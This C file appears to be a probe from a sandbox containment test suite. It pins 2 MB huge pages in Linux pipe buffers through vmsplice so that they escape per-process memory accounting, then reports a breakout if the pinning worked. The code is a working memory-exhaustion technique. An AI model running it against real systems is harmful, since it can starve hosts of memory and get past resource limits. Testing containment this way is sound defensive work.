// Has pipes hold large pages of which no process knows any more: one byte of each lies in a pipe.
#include "hostile.h"

#define LARGE (2UL << 20)

static void attack(void) {
    unsigned long pinned = 0;
    for (int number = 0; number < 6; number++) {
        int ends[2];
        if (pipe(ends) != 0) return;
        fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
        for (int page = 0; page < 256; page++) {
            char *space = mmap(NULL, 2 * LARGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (space == MAP_FAILED) return;
            char *large = (char *)(((uintptr_t)space + LARGE - 1) / LARGE * LARGE);
            madvise(large, LARGE, 14 /* MADV_HUGEPAGE */);
            *large = 'x';
            struct iovec byte = {large, 1};
            if (vmsplice(ends[1], &byte, 1, SPLICE_F_NONBLOCK) == 1) pinned += LARGE;
            munmap(space, 2 * LARGE);
        }
    }
    usleep(500000);
    if (pinned > LARGE) broke_out("pages in pipes");
}
